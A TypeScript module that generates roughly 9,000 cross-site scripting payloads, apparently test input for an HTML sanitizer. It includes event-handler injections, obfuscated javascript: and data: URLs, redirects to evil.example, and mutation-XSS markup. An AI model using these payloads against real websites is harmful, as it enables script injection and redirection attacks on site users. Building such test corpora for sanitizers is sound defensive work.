import { hostileFragments } from './hostileFragments.ts'

/** About 9,000 payloads that try to inject scripts, styles or foreign hosts through HTML, always the same. */
export function hostileHtml(): string[] {
  return [...new Set([...eventHandlers(), ...addresses(), ...mutations(), ...hostileFragments()])]
}

/** Elements whose content browsers parse by special rules. */
// oxfmt-ignore
export const RAW_TEXT_ELEMENTS = [
  'xmp', 'noembed', 'noframes', 'plaintext', 'iframe', 'textarea', 'title', 'style', 'svg', 'math', 'script', 'noscript',
  'template', 'select', 'table', 'listing', 'option', 'object', 'frameset', 'svg><title', 'svg><foreignObject', 'math><mtext',
  'svg><style', 'math><annotation-xml encoding=text/html', 'form><form', 'xmp><xmp', 'noscript><style', 'table><caption',
] as const

/** The payload inside each of these elements: opened only, and opened and closed. */
export function wrapEach(payload: string): string[] {
  return RAW_TEXT_ELEMENTS.flatMap((opened) => {
    const closing = opened
      .split('><')
      .toReversed()
      .map((element) => `</${element.split(' ')[0]}>`)
      .join('')
    return [`<${opened}>${payload}`, `<${opened}>${payload}${closing}`, `<${opened}>${closing}${payload}`]
  })
}

// oxfmt-ignore
const ELEMENTS = [
  'a', 'abbr', 'address', 'area', 'article', 'audio', 'b', 'base', 'bdo', 'blockquote', 'body', 'br', 'button', 'canvas', 'caption',
  'center', 'cite', 'code', 'col', 'command', 'custom-element', 'dd', 'del', 'details', 'dialog', 'dir', 'div', 'dl', 'em', 'embed',
  'fieldset', 'figure', 'font', 'form', 'frame', 'frameset', 'h1', 'head', 'hr', 'html', 'i', 'iframe', 'image', 'img', 'input',
  'isindex', 'keygen', 'label', 'legend', 'li', 'link', 'listing', 'map', 'marquee', 'math', 'menu', 'meta', 'meter', 'nobr',
  'noembed', 'noscript', 'object', 'ol', 'option', 'p', 'param', 'plaintext', 'pre', 'q', 'ruby', 'script', 'search', 'section',
  'select', 'slot', 'source', 'span', 'strong', 'style', 'summary', 'svg', 'table', 'tbody', 'td', 'template', 'textarea', 'th',
  'time', 'title', 'tr', 'track', 'u', 'ul', 'var', 'video', 'wbr', 'xmp', 'xss',
]

// oxfmt-ignore
const EVENTS = [
  'abort', 'afterprint', 'afterscriptexecute', 'animationend', 'animationstart', 'auxclick', 'beforecopy', 'beforeinput',
  'beforematch', 'beforetoggle', 'begin', 'blur', 'canplay', 'change', 'click', 'close', 'contentvisibilityautostatechange',
  'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'dragend', 'drop', 'end', 'ended', 'error', 'finish', 'focus', 'focusin',
  'formdata', 'fullscreenchange', 'gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'load', 'loadeddata',
  'loadstart', 'message', 'mousedown', 'mouseenter', 'mouseover', 'mousewheel', 'pagereveal', 'pageshow', 'paste', 'play',
  'pointerdown', 'pointerenter', 'popstate', 'progress', 'readystatechange', 'repeat', 'reset', 'resize', 'scroll', 'scrollend',
  'search', 'securitypolicyviolation', 'seeking', 'select', 'selectionchange', 'show', 'slotchange', 'start', 'submit', 'suspend',
  'toggle', 'touchstart', 'transitionend', 'transitionrun', 'unhandledrejection', 'unload', 'wheel', 'zoom',
]

const CALL = 'alert(1)'

/** Every event on every element, in each syntax that HTML allows. */
function eventHandlers(): string[] {
  return ELEMENTS.flatMap((element, row) =>
    EVENTS.map((event, column) => {
      const write = WRITINGS[(row + column) % WRITINGS.length] ?? WRITINGS[0]
      return write(element, event)
    }),
  )
}

const WRITINGS = [
  (element: string, event: string) =>
    `<${element} on${event}=${CALL} tabindex=1 autofocus src=x>test</${element}>`,
  (element: string, event: string) =>
    `<${element} on${event}="${CALL}" contenteditable style=display:block>test`,
  (element: string, event: string) => `<${element}/on${event}='${CALL}'/id=x name=cookie>test</${element}>`,
  (element: string, event: string) => `"><${element.toUpperCase()}\n\fON${event}\t=\r${CALL}//`,
  (element: string, event: string) => `<${element} a='>' on${event}=&#97;lert&lpar;1&rpar; class=x>`,
  (element: string, event: string) => `<p title="</p><${element} on${event}=${CALL}>">test</p>`,
  (element: string, event: string) => `<${element} <a on${event}=${CALL} href=//evil.example>test`,
  (element: string, event: string) =>
    `&lt;${element} on${event}=${CALL}&gt;<${element} =on${event}=1 on${event}>`,
] as const

/** Addresses that run or fetch something, in each attribute that takes an address. */
function addresses(): string[] {
  const places = [
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<a href='${url}' target=_blank ping=//evil.example>x`,
    (url: string) => `<img src="${url}">`,
    (url: string) => `<img src=/media/a.png srcset="${url} 1x" longdesc="${url}">`,
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<object data="${url}"><embed src="${url}">`,
    (url: string) =>
      `<form action="${url}"><button formaction="${url}">x</button><input type=image src="${url}">`,
    (url: string) => `<base href="${url}"><a href=x>x</a>`,
    (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
    (url: string) => `<link rel=stylesheet href="${url}"><script src="${url}"></script>`,
    (url: string) =>
      `<svg><a xlink:href="${url}"><text y=9>x</text></a><use href="${url}"/><image href="${url}"/></svg>`,
    (url: string) =>
      `<svg><animate attributeName=href values="${url}"/><set attributeName=onload to="${url}"/></svg>`,
    (url: string) => `<math href="${url}"><mtext>x</mtext><maction xlink:href="${url}">x`,
    (url: string) =>
      `<p style="background:url(${url})" background="${url}">x</p><table background="${url}"><td>x`,
    (url: string) => `<video poster="${url}"><source src="${url}"><track src="${url}"></video>`,
    (url: string) =>
      `<blockquote cite="${url}">x</blockquote><ins cite="${url}">x</ins><a href="/x" href="${url}">x</a>`,
  ]
  return places.flatMap((place) => ADDRESSES.map(place))
}

const SCHEMES = ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)']

const DISGUISES = [
  (url: string) => url,
  (url: string) => url.toUpperCase(),
  (url: string) => ` \n\t${url}`,
  (url: string) => `\u0001\u001f${url}`,
  (url: string) => `&#1;&#x1f;${url}`,
  (url: string) => `\u2028${url}`,
  (url: string) => `&nbsp;${url}`,
  (url: string) => `${url.slice(0, 4)}\t${url.slice(4)}`,
  (url: string) => `${url.slice(0, 4)}&Tab;&NewLine;${url.slice(4)}`,
  (url: string) => url.replace(':', '&colon;'),
  (url: string) => url.replace(':', '&#0000058'),
  (url: string) => Array.from(url, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join(''),
  (url: string) => Array.from(url, (letter) => `&#${letter.codePointAt(0)}`).join(''),
  (url: string) => `feed:${url}`,
  (url: string) => `view-source:${url}`,
  (url: string) => `/../${url}`,
  (url: string) => `x:${url}`,
]

// oxfmt-ignore
const ADDRESSES = [
  ...SCHEMES.flatMap((url) => DISGUISES.map((disguise) => disguise(url))),
  '//evil.example/x', '/\\evil.example/x', '\\\\evil.example', '/\t/evil.example', '/&Tab;/evil.example', '/&#10;\\evil.example',
  '/.//evil.example', '/x/..//evil.example', '/%2e//evil.example', 'https:evil.example', 'http:/evil.example', 'https:\\\\evil.example',
  'https://shop.example@evil.example/', 'https://:x@evil.example', 'blob:https://evil.example/1', 'filesystem:https://evil.example/1',
  'about:blank#x', 'file:///etc/passwd', 'ftp://evil.example', 'jar:https://evil.example!/', 'data:image/svg+xml,<svg onload=alert(1)>',
  'data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'intent://evil.example#Intent;end', '?x', 'x.png', '', '#', '#x', '&sol;&sol;evil.example',
  'mailto:a@b.example?body="onclick=alert(1)', 'https://evil.example/"onerror="alert(1)', "https://evil.example/'onerror='alert(1)",
]

/** Mutation XSS: markup that changes when it is parsed, serialised and parsed again. */
function mutations(): string[] {
  const active = `<img src=x onerror=${CALL}>`
  const inAttribute = (closing: string) => `<a title="${closing}${active}">x`
  const outer = [
    'svg',
    'math',
    'svg><foreignObject',
    'math><mtext',
    'math><annotation-xml encoding="text/html"',
    'svg><desc',
  ]
  const middle = [
    '',
    '<p>',
    '</p>',
    '<table>',
    '<form></form><form>',
    '<mglyph>',
    '<h1><a><h6></a></h6>',
    '<option>',
    '</br>',
    '<b><a>',
  ]
  const inner = [
    'style',
    'title',
    'textarea',
    'xmp',
    'noscript',
    'noembed',
    'noframes',
    'iframe',
    'script',
    'template',
    'plaintext',
    '!--',
  ]
  const closingOf = (name: string) => (name === '!--' ? '-->' : `</${name}>`)
  return outer.flatMap((foreign) =>
    middle.flatMap((between) =>
      inner.flatMap((raw) => [
        `<${foreign}>${between}<${raw}>${inAttribute(closingOf(raw))}`,
        `<${foreign}>${between}<${raw}>${active}${closingOf(raw)}${active}`,
      ]),
    ),
  )
}
